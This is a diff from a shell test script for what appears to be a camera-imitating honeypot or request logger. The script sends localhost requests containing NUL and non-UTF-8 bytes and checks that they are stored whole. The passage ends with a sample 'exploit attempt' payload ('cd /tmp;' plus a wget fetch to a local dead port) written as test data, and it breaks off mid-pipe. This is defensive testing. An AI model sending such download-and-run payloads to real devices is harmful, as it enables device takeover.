@@ -44,11 +44,10 @@ traffic() { # TAG: pages, one stream frame with its credential, a login with it
 	for i in $(seq 1 30); do curl -s -o /dev/null -A "ch-$1-$i" "$BASE/view/index.shtml?n=$i"; done
 	curl -s -o /dev/null -A $'ch-\xff\xfe-bytes' "$BASE/axis-cgi/jpg/image.cgi?x=$1"
 	# NUL bytes in the path, the query and the User-Agent: stored whole, shipped whole
-	python3 -c 'import socket, sys
-s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=5)
-s.sendall(b"GET /nul\x00path?q\x00%s HTTP/1.1\r\nHost: x\r\nUser-Agent: ch-nul\x00%s\r\n"
-          b"Connection: close\r\n\r\n" % (sys.argv[2].encode(), sys.argv[2].encode()))
-s.recv(65536)' "$PORT" "$1"
+	python3 -c 'import sys
+from camclient import talk
+talk(sys.argv[1], b"GET /nul\x00path?q\x00%s HTTP/1.1\r\nHost: x\r\nUser-Agent: ch-nul\x00%s\r\n"
+     b"Connection: close\r\n\r\n" % (sys.argv[2].encode(), sys.argv[2].encode()))' "$PORT" "$1"
 	wait_sql "SELECT COUNT(*) FROM requests WHERE hex(user_agent) = hex('ch-nul' || char(0) || '$1')" 1
 	# an exploit attempt with a NUL and bytes that are not UTF-8 in its payload
 	printf 'cd /tmp;\0wget http://127.0.0.1:9/x\xff\xfe' |
